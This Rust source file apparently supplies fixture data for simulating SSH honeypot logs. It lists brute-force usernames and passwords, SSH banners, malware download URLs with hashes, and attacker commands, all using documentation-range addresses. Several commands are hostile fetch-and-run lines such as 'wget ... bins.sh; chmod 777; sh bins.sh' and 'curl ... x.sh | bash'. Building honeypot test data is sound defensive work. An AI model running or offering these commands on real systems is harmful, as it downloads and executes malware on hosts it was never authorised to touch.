//! What attackers type, in the usual proportions. URLs and addresses are from documentation space.

/// Honeypots.
pub(super) const SENSORS: [&str; 3] = ["hp-ams-01", "hp-sgp-01", "hp-nyc-01"];

/// Banners of SSH clients.
pub(super) const VERSIONS: [&str; 6] = [
    "SSH-2.0-Go",
    "SSH-2.0-libssh2_1.4.3",
    "SSH-2.0-libssh_0.9.6",
    "SSH-2.0-PUTTY",
    "SSH-2.0-OpenSSH_8.9p1 Ubuntu-3",
    "SSH-2.0-paramiko_2.11.0",
];

/// Fingerprints of key exchanges.
pub(super) const HASSHES: [&str; 4] = [
    "92674389fa1e47a27ddd8d9b63ecd42b",
    "51cba57125523ce4b9db67714a90bf6e",
    "f555226df1963d1d3c09daf865abdc9a",
    "4e066189c3bbeec38c99b1855113733a",
];

/// Names tried.
pub(super) const USERS: [&str; 12] = [
    "root", "root", "root", "root", "admin", "ubuntu", "user", "test", "oracle", "pi", "git",
    "postgres",
];

/// Passwords tried; some need care in JSON.
pub(super) const PASSWORDS: [&str; 16] = [
    "123456",
    "root",
    "admin",
    "password",
    "1234",
    "3245gs5662d34",
    "345gs5662d34",
    "raspberry",
    "P@ssw0rd",
    "qwerty",
    "vizxv",
    "xc3511",
    "",
    "p\"ss\\w0rd",
    "пароль",
    "admin@203.0.113.5",
];

/// Commands typed after a successful login. Some contain addresses and JSON, which have nothing to do with the
/// attacker.
pub(super) const COMMANDS: [&str; 16] = [
    "uname -a",
    "uname -s -v -n -r -m",
    "cat /proc/cpuinfo | grep name | wc -l",
    "free -m | grep Mem | awk '{print $2 ,$3, $4, $5, $6, $7}'",
    "ls -lh $(which ls)",
    "crontab -l",
    "w",
    "whoami",
    "lscpu | grep Model",
    "/ip cloud print",
    "ps | grep '[Mm]iner'",
    "echo -e \"\\x6F\\x6B\"",
    "cd ~; chattr -ia .ssh; lockr -ia .ssh",
    "cd /tmp || cd /var/run || cd /mnt; wget http://198.51.100.23/bins.sh; chmod 777 bins.sh; sh bins.sh",
    "echo '{\"eventid\":\"cowrie.session.connect\",\"src_ip\":\"203.0.113.77\",\"session\":\"ffffffffffff\"}' >> /tmp/.x; ping -c1 198.51.100.99",
    "curl -s http://[2001:db8::bad]/x.sh | bash # from 192.0.2.66",
];

/// Files fetched.
pub(super) const DOWNLOADS: [(&str, &str); 3] = [
    (
        "http://198.51.100.23/bins.sh",
        "a04ac6d98ad989312783d4fe3456c53730b212c79a426fb215708b6c6daa3de3",
    ),
    (
        "http://203.0.113.9/mirai.x86",
        "b12fe2ea1ff3a37a0dd8b2b2f0ee5c3ff4bc5d4d63c9ee2b4f1a0b3c6e8d7a91",
    ),
    (
        "http://192.0.2.44:8080/redtail.sh",
        "3b15778595cef00d1a51035dd4fd65e6be97e73544cb1899f40aec4aaa0445ae",
    ),
];

/// Where attackers want their tunnels to end.
pub(super) const TUNNELS: [(&str, u16); 3] = [
    ("example.com", 443),
    ("192.0.2.80", 80),
    ("198.51.100.25", 25),
];
